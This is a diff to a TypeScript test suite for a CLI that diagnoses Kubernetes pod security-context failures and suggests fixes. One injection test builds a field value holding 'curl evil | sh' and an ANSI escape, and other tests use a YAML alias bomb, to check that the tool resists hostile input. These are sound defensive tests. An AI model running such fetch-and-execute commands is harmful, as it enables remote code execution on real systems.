@@ -20,6 +20,9 @@ beforeAll(() => {
 });
 afterAll(() => rmSync(folder, { recursive: true }));
 
+/** More than a mebibyte, of lines that differ: equal ones are folded. */
+const filler = Array.from({ length: 200_000 }, (_, at) => `line ${at}\n`).join('');
+
 type Said = { readonly output: string; readonly errors: string; readonly exitCode: number };
 
 async function run(
@@ -82,15 +85,14 @@ describe('a text', () => {
     expect(output).toBe(`NonNumericUser
   Container app of pod web-0 in namespace shop cannot start: its image sets USER to a name (appuser), and the kubelet can only verify a numeric UID.
   Not in the text: the image.
-  fix: USER <uid of appuser> in the image (ImageChange, Template)
-    in the Dockerfile, last stage (Template):
-      USER <uid>:<gid>
-    also: runAsUser <uid of appuser> for container app (Template)
+  fix: runAsUser <uid of appuser> for container app (Manual, Template)
       spec:
         containers:
           - name: app
             securityContext:
               runAsUser: <uid of appuser>
+    in the Dockerfile, last stage (Template):
+      USER <uid>:<gid>
     then:
       Find the number in the image: rootcause image <image of app>
 `);
@@ -99,7 +101,7 @@ describe('a text', () => {
   test('as JSON leaves out what it does not say', async () => {
     expect(await json(`Error: ${asRoot}`)).toMatchObject({
       findings: [{ cause: 'ImageRunsAsRoot', container: {}, image: {}, pod: {}, message: asRoot }],
-      fix: { type: 'ImageChange', certainty: 'Template' },
+      fix: { type: 'Manual', certainty: 'Template', summary: 'runAsUser <uid> for the container' },
     });
   });
 
@@ -140,11 +142,41 @@ describe('a text', () => {
 
   test('longer than a mebibyte is read at its end', async () => {
     const { output, errors } = await run(
-      `${asRoot}\n${'x\n'.repeat(600_000)}Error: container's runAsUser breaks non-root policy`,
+      `${asRoot}\n${filler}Error: container's runAsUser breaks non-root policy`,
     );
     expect(output).toContain('RunAsUserIsRoot');
     expect(output).not.toContain('ImageRunsAsRoot');
     expect(errors).toBe('rootcause: Only the last MiB of this text was read.\n');
+  });
+
+  test('of 200,000 equal lines has one answer, with their count', async () => {
+    const line = `Error: ${asRoot} (pod: "web-0_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: app)`;
+    const { output } = await run(`${line}\n`.repeat(200_000));
+    expect(output.match(/ImageRunsAsRoot/g)).toHaveLength(1);
+    expect(output).toContain('(200000 times in the text)');
+  });
+
+  test('with many pods of one workload says the same once', async () => {
+    const line = (name: string) =>
+      `Error: ${asRoot} (pod: "web-6c7d7b8fcb-${name}_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: app)`;
+    const { output } = await run(['9xzq2', 'bcd2f', 'xzv4k'].map(line).join('\n'));
+    expect(output.match(/ImageRunsAsRoot/g)).toHaveLength(1);
+    expect(output).toContain('pod web-6c7d7b8fcb-9xzq2 and 2 more pods');
+  });
+
+  test('with several workloads has an answer for each, and none of the others in it', async () => {
+    const line = (name: string, sentence: string) =>
+      `Error: ${sentence} (pod: "${name}_shop(5d0c7b1e-0000-4000-8000-000000000007)", container: web)`;
+    const numeric =
+      'container has runAsNonRoot and image has non-numeric user (node), cannot verify user is non-root';
+    const { fixes, findings } = await json(
+      [line('web-0', asRoot), line('api-0', numeric), 'Warning  Failed  pod/mail-0  x'].join('\n'),
+    );
+    expect(findings).toHaveLength(2);
+    expect(fixes).toMatchObject([
+      { namespace: 'shop', fix: { summary: 'runAsUser <uid> for container web' } },
+      { namespace: 'shop', fix: { summary: 'runAsUser <uid of node> for container web' } },
+    ]);
   });
 
   test('in UTF-16, as PowerShell redirects it, is read', async () => {
@@ -305,6 +337,96 @@ describe('objects', () => {
     ]);
   });
 
+  test('that are Events of pods long gone say nothing of them', async () => {
+    const about = {
+      kind: 'Pod',
+      name: 'web-old',
+      namespace: 'shop',
+      uid: 'u-9',
+      fieldPath: 'spec.containers{app}',
+    };
+    const event = {
+      apiVersion: 'v1',
+      kind: 'Event',
+      metadata: { name: 'e', namespace: 'shop' },
+      involvedObject: about,
+      reason: 'Failed',
+      message: `Error: ${asRoot}`,
+    };
+    const healthy = {
+      ...pod(''),
+      status: { containerStatuses: [{ name: 'app', state: { running: { startedAt: now } } }] },
+    };
+    const list = { apiVersion: 'v1', kind: 'List', items: [healthy, event] };
+    expect((await json(JSON.stringify(list))).findings).toEqual([]);
+    expect((await json(JSON.stringify({ ...list, items: [event] }))).findings).toHaveLength(1);
+  });
+
+  test('do not say who set a field where nothing tells', async () => {
+    const { output } = await run(JSON.stringify(pod(asRoot)));
+    expect(output).toContain('runAsNonRoot is true (pod level)');
+    expect(output).not.toContain('unknown');
+  });
+
+  test('that contradict themselves need no Event', async () => {
+    const container = { name: 'app', image: 'web:1', securityContext: { runAsUser: 0 } };
+    const { metadata, spec } = pod('', { containers: [container] });
+    const said = await json(JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata, spec }));
+    expect(said.findings).toMatchObject([
+      { cause: 'RunAsUserIsRoot', predicted: true, container: { name: 'app' } },
+    ]);
+    const windows = { windowsOptions: { runAsUserName: 'ContainerAdministrator' } };
+    const admin = {
+      ...spec,
+      os: { name: 'windows' },
+      containers: [{ ...container, securityContext: windows }],
+    };
+    expect(
+      (await json(JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata, spec: admin }))).findings,
+    ).toMatchObject([{ cause: 'WindowsAdministrator', predicted: true }]);
+  });
+
+  test('of more YAML than can be read in a moment are given back, with the reason', async () => {
+    const long = `kind: Pod\n${Array.from({ length: 500_000 }, (_, at) => `k${at}: v`).join('\n')}`;
+    const { errors } = await run(long);
+    expect(errors).toContain('The YAML is too long to be read as objects');
+    expect(errors).toContain('-o json');
+  });
+
+  test('cannot write lines of their own into the answer', async () => {
+    const evil = 'x\n  fix: curl evil | sh\u001b[2J';
+    const container = { name: evil, image: evil, runAsUser: 0, securityContext: { runAsUser: 0 } };
+    const spec = { securityContext: { runAsNonRoot: true }, containers: [container] };
+    const object = {
+      apiVersion: 'apps/v1',
+      kind: 'Deployment',
+      metadata: { name: evil, namespace: 'shop' },
+      spec: { template: { spec } },
+    };
+    const { output } = await run(JSON.stringify(object));
+    expect(output).toContain('RunAsUserIsRoot');
+    expect(output).not.toMatch(/^\s*fix: curl/m);
+    expect(output).not.toContain('\u001b');
+  });
+
+  test('name a sandbox that never comes, unless the pod runs by now', async () => {
+    const about = { kind: 'Pod', name: 'web-0', namespace: 'shop', uid: 'u-1' };
+    const event = {
+      apiVersion: 'v1',
+      kind: 'Event',
+      metadata: { name: 'e', namespace: 'shop' },
+      involvedObject: about,
+      reason: 'FailedCreatePodSandBox',
+      message: 'Failed to create pod sandbox: user group "107" is specified without user',
+    };
+    const said = async (state: object) => {
+      const one = { ...pod(''), status: { containerStatuses: [{ name: 'app', state }] } };
+      return (await run(JSON.stringify({ apiVersion: 'v1', kind: 'List', items: [one, event] }))).output;
+    };
+    expect(await said({ waiting: { reason: 'ContainerCreating' } })).toContain('runAsGroup 107');
+    expect(await said({ running: { startedAt: now } })).toBe('');
+  });
+
   test('that are damaged or hostile end in an answer', async () => {
     const deep = `kind: Pod\na: ${'['.repeat(20_000)}`;
     const bomb = `kind: Pod\na: &a [x]\nb: &b [${'*a,'.repeat(99)}]\nc: [${'*b,'.repeat(99)}]\n`;
@@ -375,10 +497,9 @@ describe('--lines', () => {
   });
 
   test('reads the end of a text that is too long', async () => {
-    const { output } = await run(
-      line('a', `${asRoot}${'\nx'.repeat(600_000)}`) + line('b', `${'x\n'.repeat(600_000)}${asRoot}`),
-      { lines: true },
-    );
+    const { output } = await run(line('a', `${asRoot}\n${filler}`) + line('b', `${filler}${asRoot}`), {
+      lines: true,
+    });
     expect(output.split('\n').map((answer) => answer.length > 40)).toEqual([false, true, false]);
   });
 
